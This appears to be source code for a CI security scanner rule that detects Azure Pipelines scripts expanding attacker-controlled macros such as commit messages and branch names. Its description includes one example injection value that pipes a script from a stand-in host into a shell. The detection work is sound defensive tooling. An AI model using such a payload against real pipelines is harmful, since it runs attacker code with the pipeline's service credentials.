"""AZ-SCRIPT-INJECTION: a macro of a value the change's author chooses, expanded into a script."""

from __future__ import annotations

import re
from collections.abc import Iterator

from secloop.core.enums import Confidence, Severity, Stage
from secloop.core.model import Finding
from secloop.core.rules import Rule
from secloop.pipeline.azure.audits.interface import AzureAuditBase
from secloop.pipeline.azure.model import AzureFile

RULE = Rule(
    id="AZ-SCRIPT-INJECTION",
    title="Azure Pipelines script expands a value the change's author controls",
    stage=Stage.PIPELINE,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    description=(
        "`$(Build.SourceVersionMessage)`, branch names and the pull request's source branch are "
        "written by whoever opens the change. Azure expands `$(…)` macros and `${{ }}` template "
        "expressions into the script text before the shell runs it, so a commit message such as "
        '`"; curl evil.sh | sh; "` becomes code with the pipeline\'s service connections.'
    ),
    fix=(
        "Map the value into `env:` (`env: { MESSAGE: $(Build.SourceVersionMessage) }`) and use the "
        'variable quoted in the script (`"$MESSAGE"`), which the shell never parses as code.'
    ),
    cwe=(78, 94),
    cicd_sec=(4,),
)
CONTROLLED = (
    "Build.SourceVersionMessage",
    "Build.SourceBranch",
    "Build.SourceBranchName",
    "Build.RequestedFor",
    "Build.RequestedForEmail",
    "System.PullRequest.SourceBranch",
    "System.PullRequest.SourceBranchName",
    "System.PullRequest.SourceRepositoryURI",
)
_NAMES = "|".join(re.escape(name) for name in CONTROLLED)
MACRO = re.compile(
    rf"\$\((?P<macro>{_NAMES})\)|\$\{{\{{\s*variables\[\s*'(?P<template>{_NAMES})'\s*\]\s*\}}\}}"
    rf"|\$\{{\{{\s*variables\.(?P<dotted>{_NAMES})\s*\}}\}}",
    re.IGNORECASE,
)


class ScriptInjection(AzureAuditBase):
    rule = RULE

    def audit(self, file: AzureFile) -> Iterator[Finding]:
        for step in file.steps:
            for script in step.scripts:
                for match in MACRO.finditer(script.raw):
                    name = match["macro"] or match["template"] or match["dotted"]
                    where = f"step {step.name!r}" if step.name else f"a step of job {step.job or '(top)'!r}"
                    yield self.finding(
                        file,
                        f"{where} expands {name} into its script"
                        + ("; pull requests run this pipeline" if file.pull_requests else ""),
                        script.span(match.start(), match.end()),
                        key=(step.job, step.name or "", name.lower()),
                        severity=Severity.HIGH if file.pull_requests else Severity.MEDIUM,
                    )
